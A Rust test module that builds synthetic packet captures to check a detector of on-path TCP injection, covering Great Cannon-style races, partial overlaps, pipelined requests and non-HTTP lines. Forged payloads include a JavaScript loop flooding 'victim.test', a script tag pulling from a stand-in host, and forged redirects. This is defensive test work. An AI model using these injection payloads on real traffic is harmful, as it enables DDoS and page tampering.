//! Races that are harder to see: several segments, other borders, later requests, no HTTP.

use super::http::{LURE, answer, bare_redirect, get, moved, page, prose};
use super::race::{front_page, genuine, repeat, twice};
use super::{Alert, Case, Told};
use crate::support::connection::{Connection, Side};
use crate::support::host::{client, site};
use crate::support::injector::{ForgedId, Injector, Ttl};
use crate::support::segment::{ACK, FIN, PSH};
use crate::support::story::{Story, after_ms};

pub(super) fn cases() -> Vec<Case> {
    let webex = Case::alone(
        "tcp-rewrite-by-own-stack",
        "A protocol that is not HTTP; the server fills its retransmission with newer data than the lost segment held, as a conferencing
         service was seen to do. All headers are of one stack and the IP-IDs go on in their row.",
        rewrite_by_own_stack,
    );
    [
        Case::twins(
            "race-great-cannon",
            "After the captures of the Great Cannon: a script is answered in three packets whose TTL and window grow by one from packet to
             packet, the last with FIN. The genuine script follows.",
            "A script of an Apache server comes in three segments of one stack whose window opens a little from one to the next.",
            great_cannon,
        ),
        Case::twins(
            "race-partial-overlap",
            "The forged bytes begin in the middle of a genuine segment: the forger knows where the body starts and replaces only that. The
             genuine segment has other borders, so no two segments share a sequence number.",
            "The retransmission begins in the middle of the first segment and holds the same bytes.",
            partial_overlap,
        ),
        Case::twins(
            "race-coalesce",
            "Forged segments come ahead of their turn and wait in the client's buffer for the gap to close; then the genuine segment fills the
             gap and goes on over the place of the forged one.",
            "The second segment overtakes the first; the first is then sent again together with what follows, bytes unchanged.",
            coalesce,
        ),
        Case::twins(
            "race-not-http",
            "A line-based protocol between two plain stacks; a forged line carries the IP-ID that the server's last ACK had, while all of the
             server's own packets count up. After the netcat captures that HoneyBadger published.",
            "The same conversation with one line sent twice by the server.",
            not_http,
        ),
        Case::twins(
            "race-two-in-one-flow",
            "Two requests in one connection, and each is answered by a forged redirect before the genuine page: two alerts.",
            "Two requests in one connection, and the site redirects both.",
            two_in_one_flow,
        ),
        Case::twins(
            "race-pipelined",
            "Two requests in one segment. The first answer is genuine; at the place of the second a forged one comes first.",
            "Two requests in one segment, two answers in two segments, the second sent twice.",
            pipelined,
        ),
        Case::twins(
            "race-before-request",
            "Shot when the SYN-ACK passes, and the client has it before it asks: headers, clock and IP-ID are the server's. The request acknowledges
             what the server never sent, and the server answers it with a bare ACK whose sequence number lies before the forged bytes.",
            "The server's bare ACK of the request is overtaken by the redirect and arrives 8 ms after it, when the client has acknowledged that.",
            before_request,
        ),
        Case::twins(
            "race-two-forgers",
            "Two forgers answer one request, each with headers of its own, before the page of the site comes: one alert, against the site's own packet.",
            "The site's segment arrives three times: the network doubled it, and the stack sent it again.",
            two_forgers,
        ),
        Case::twins(
            "race-swapped-segments",
            "The page comes in small segments, the second ahead of the first; the forged redirect comes last, and covers all of the first and seven bytes of the
             second.",
            "The same segments in the same order, and the first of them a second time.",
            swapped_segments,
        ),
    ]
    .into_iter()
    .flatten()
    .chain([webex])
    .collect()
}

fn script(body: &str) -> Vec<u8> {
    answer("200 OK", "Content-Type: text/javascript\r\n", body)
}

fn great_cannon(loud: bool) -> Told {
    let mut story = Story::new();
    let mut tcp = story.connection(client(), site());
    tcp.handshake(180.0);
    tcp.request(&get("ads.example", "/h.js"));
    let honest = script(&"document.write('<!-- counted -->');\n".repeat(30));
    tcp.server_ack(after_ms(181.0));
    if !loud {
        tcp.wait(after_ms(0.5));
        let mut segments = tcp.server_segments(&honest, 400, PSH | ACK);
        for (segment, window) in segments.iter_mut().zip(507..) {
            segment.window = window;
        }
        tcp.put_all(&segments);
        tcp.ack();
        tcp.close();
        return Told::silent(story);
    }
    let attack = "HTTP/1.1 200 OK\r\nServer: Apache\r\nConnection: close\r\nContent-Type: text/javascript\r\nContent-Length: 900\r\n\r\n";
    let body = format!("{:<900}", "/* packed */ setInterval(function(){new Image().src='http://victim.test/?'+Math.random()},9);");
    let forged = tcp.forge(&Injector::great_cannon(), after_ms(0.3), &[attack.as_bytes(), body.as_bytes()].concat());
    tcp.wait(after_ms(0.3));
    let fin = tcp.segment(Side::Client, FIN | ACK, b"");
    tcp.put(&fin);
    let genuine = tcp.reply(after_ms(1050.0), &honest);
    Told::loud(story, [Alert::on_path("http_content", &forged, genuine[0]).by(["S1", "H"])])
}

fn partial_overlap(loud: bool) -> Told {
    let mut story = Story::new();
    let mut tcp = story.connection(client(), site());
    tcp.handshake(24.0);
    tcp.request(&get("news.example", "/"));
    let text = page(&prose(20));
    let body = text.windows(4).position(|four| four == b"\r\n\r\n").unwrap() + 4;
    tcp.server_ack(after_ms(24.0));
    if !loud {
        let first = tcp.server_segments(&text, 1000, PSH | ACK);
        tcp.put_all(&first);
        tcp.wait(after_ms(220.0));
        tcp.server.next = first[0].seq.wrapping_add(body as u32);
        let rest = tcp.server_segments(&text[body..], 900, PSH | ACK);
        tcp.put_all(&rest);
        tcp.ack();
        tcp.close();
        return Told::silent(story);
    }
    let place = tcp.client.heard;
    tcp.client.heard = place.map(|seq| seq.wrapping_add(body as u32));
    let shot =
        tcp.forged(&Injector::quantum(), &[b"<script src=\"http://x9q2.updates.test/l.js\"></script>".as_slice(), &[b' '; 400]].concat());
    tcp.client.heard = place;
    let forged = tcp.put_all(&shot);
    let genuine = tcp.reply(after_ms(1.5), &text);
    tcp.ack();
    tcp.close();
    Told::loud(story, [Alert { mechanism: "http_content".to_owned(), ..Alert::on_path("", &forged, genuine[0]).up_to(2).by(["S1", "H"]) }])
}

fn coalesce(loud: bool) -> Told {
    let mut story = Story::new();
    let mut tcp = story.connection(client(), site());
    tcp.handshake(24.0);
    tcp.request(&get("news.example", "/"));
    let text = page(&prose(20));
    tcp.server_ack(after_ms(24.0));
    let segments = tcp.server_segments(&text, 700, PSH | ACK);
    if !loud {
        tcp.put(&segments[1]);
        tcp.put(&segments[0]);
        tcp.wait(after_ms(200.0));
        repeat(&mut tcp, &segments);
        tcp.ack();
        tcp.close();
        return Told::silent(story);
    }
    let place = tcp.client.heard;
    tcp.client.heard = place.map(|seq| seq.wrapping_add(700));
    let shot = tcp.forged(&Injector::quantum(), &b"<p>what the newsroom never wrote</p>\n".repeat(15));
    tcp.client.heard = place;
    let forged = tcp.put_all(&shot);
    tcp.wait(after_ms(2.0));
    tcp.put(&segments[0]);
    let genuine = tcp.put(&segments[1]);
    tcp.put_all(&segments[2..]);
    tcp.ack();
    tcp.close();
    Told::loud(story, [Alert::on_path("http_content", &forged, genuine).up_to(2).by(["S1", "H"])])
}

/// A conversation of lines, each answered by a bare ACK, after which the server has spoken `count` lines.
fn lines(tcp: &mut Connection<'_>, count: usize) {
    tcp.handshake(3.0);
    for n in 1..=count {
        tcp.request(format!("MSG {n} what is the price\n").as_bytes());
        tcp.server_ack(after_ms(3.0));
        tcp.reply(after_ms(40.0), format!("RPL {n} one hundred and {n}\n").as_bytes());
        tcp.ack();
    }
}

fn not_http(loud: bool) -> Told {
    let mut story = Story::new();
    let mut tcp = story.connection(client(), site());
    tcp.server.end.port = 4321;
    lines(&mut tcp, 3);
    tcp.request(b"MSG 4 what is the price\n");
    tcp.server_ack(after_ms(3.0));
    if !loud {
        let line = tcp.server_segments(b"RPL 4 one hundred and 4\n", 1400, PSH | ACK);
        tcp.put_all(&line);
        tcp.wait(after_ms(210.0));
        repeat(&mut tcp, &line);
        tcp.ack();
        tcp.close();
        return Told::silent(story);
    }
    let injector = Injector { id: ForgedId::LastOfServer, ..Injector::careful() };
    let forged = tcp.forge(&injector, after_ms(10.0), b"RPL 4 nine hundred and 90\n");
    tcp.ack();
    let genuine = tcp.reply(after_ms(30.0), b"RPL 4 one hundred and 4\n");
    tcp.ack();
    tcp.close();
    Told::loud(story, [Alert::on_path("tcp_content", &forged, genuine[0]).or_verdict("inconclusive").up_to(2).by(["S1"])])
}

fn rewrite_by_own_stack() -> Told {
    let mut story = Story::new();
    let mut tcp = story.connection(client(), site());
    tcp.server.end.port = 4321;
    lines(&mut tcp, 3);
    let mut old = tcp.server_segments(b"TICK 09:00:01.200 level 17\n", 1400, PSH | ACK);
    tcp.put_all(&old);
    tcp.wait(after_ms(210.0));
    old[0].payload = b"TICK 09:00:01.410 level 19\n".to_vec();
    repeat(&mut tcp, &old);
    tcp.ack();
    tcp.close();
    Told::quiet(story)
}

fn two_in_one_flow(loud: bool) -> Told {
    let mut story = Story::new();
    let mut tcp = story.connection(client(), site());
    tcp.handshake(24.0);
    let mut pairs = Vec::new();
    for path in ["/", "/sport"] {
        tcp.request(&get("news.example", path));
        if !loud {
            twice(&mut tcp, &moved("302 Found", LURE));
            continue;
        }
        let shot = tcp.forge(&Injector::quantum(), after_ms(8.0), &bare_redirect(LURE));
        tcp.ack();
        pairs.push((shot, genuine(&mut tcp, 15.0, &front_page())));
        tcp.wait(after_ms(2500.0));
    }
    tcp.close();
    if !loud {
        return Told::quiet(story);
    }
    let [first, second] = [0, 1].map(|n: usize| Alert::on_path("http_redirect", &pairs[n].0, pairs[n].1).by(["S1", "H"]));
    Told::loud(story, [first, second])
}

fn pipelined(loud: bool) -> Told {
    let mut story = Story::new();
    let mut tcp = story.connection(client(), site());
    tcp.handshake(24.0);
    tcp.request(&[get("news.example", "/"), get("news.example", "/sport")].concat());
    genuine(&mut tcp, 24.0, &front_page());
    if !loud {
        twice(&mut tcp, &page(&prose(3)));
        tcp.close();
        return Told::silent(story);
    }
    let near = Injector { ttl: Ttl::Like(6), ..Injector::quantum() };
    let forged = tcp.forge(&near, after_ms(0.5), &bare_redirect(LURE));
    tcp.ack();
    let genuine = tcp.reply(after_ms(4.0), &page(&prose(3)));
    tcp.ack();
    tcp.close();
    Told::loud(story, [Alert::on_path("http_redirect", &forged, genuine[0]).by(["S1", "H"])])
}

fn before_request(loud: bool) -> Told {
    let mut story = Story::new();
    let mut tcp = story.connection(client(), site());
    tcp.handshake(40.0);
    if !loud {
        tcp.request(&get("news.example", "/"));
        tcp.wait(after_ms(41.0));
        let ack = tcp.segment(Side::Server, ACK, b"");
        tcp.reply(after_ms(0.5), &bare_redirect(LURE));
        tcp.ack();
        tcp.wait(after_ms(8.0));
        tcp.put(&ack);
        tcp.close();
        return Told::quiet(story);
    }
    let injector = Injector { flags: FIN | PSH | ACK, ..Injector::perfect() };
    let forged = tcp.forge(&injector, after_ms(0.1), &bare_redirect(LURE));
    tcp.wait(after_ms(12.0));
    let before = tcp.server.heard;
    tcp.request(&get("news.example", "/"));
    tcp.server.heard = before;
    tcp.server_ack(after_ms(40.5));
    tcp.ack();
    let alert = Alert { genuine_frame: None, ..Alert::on_path("http_redirect", &forged, 0) };
    Told::loud(story, [alert.up_to(2).by(["S9"])])
}

fn swapped_segments(loud: bool) -> Told {
    let mut story = Story::new();
    let mut tcp = story.connection(client(), site());
    tcp.handshake(24.0);
    tcp.request(&get("news.example", "/"));
    let shot = tcp.forged(&Injector::quantum(), &bare_redirect(LURE));
    assert_eq!(shot[0].payload.len(), 82, "the story wants seven bytes of the second segment");
    tcp.server_ack(after_ms(24.0));
    let mut segments = tcp.server_segments(&front_page(), 75, PSH | ACK);
    segments.swap(0, 1);
    let genuine = tcp.put_all(&segments)[0];
    tcp.wait(after_ms(1.0));
    if !loud {
        repeat(&mut tcp, &segments[1..2]);
    }
    let forged = if loud { tcp.put_all(&shot) } else { Vec::new() };
    tcp.client.heard = Some(tcp.server.next);
    tcp.ack();
    tcp.close();
    if !loud {
        return Told::silent(story);
    }
    Told::loud(story, [Alert::on_path("http_redirect", &forged, genuine).by(["S1", "H"])])
}

fn two_forgers(loud: bool) -> Told {
    let mut story = Story::new();
    let mut tcp = story.connection(client(), site());
    tcp.handshake(24.0);
    tcp.request(&get("news.example", "/"));
    if !loud {
        tcp.server_ack(after_ms(24.0));
        let segments = tcp.server_segments(&front_page(), 1400, PSH | ACK);
        tcp.put_all(&segments);
        tcp.put_all(&segments);
        tcp.wait(after_ms(210.0));
        repeat(&mut tcp, &segments);
        tcp.ack();
        tcp.close();
        return Told::silent(story);
    }
    let second = tcp.forged(&Injector { flags: PSH | ACK, ..Injector::unknown_device() }, &moved("302 Found", LURE));
    let forged = tcp.forge(&Injector::quantum(), after_ms(6.0), &bare_redirect(LURE));
    tcp.wait(after_ms(4.0));
    tcp.put_all(&second);
    tcp.ack();
    let genuine = genuine(&mut tcp, 14.0, &front_page());
    tcp.close();
    Told::loud(story, [Alert::on_path("http_redirect", &forged, genuine).by(["S1", "H"])])
}
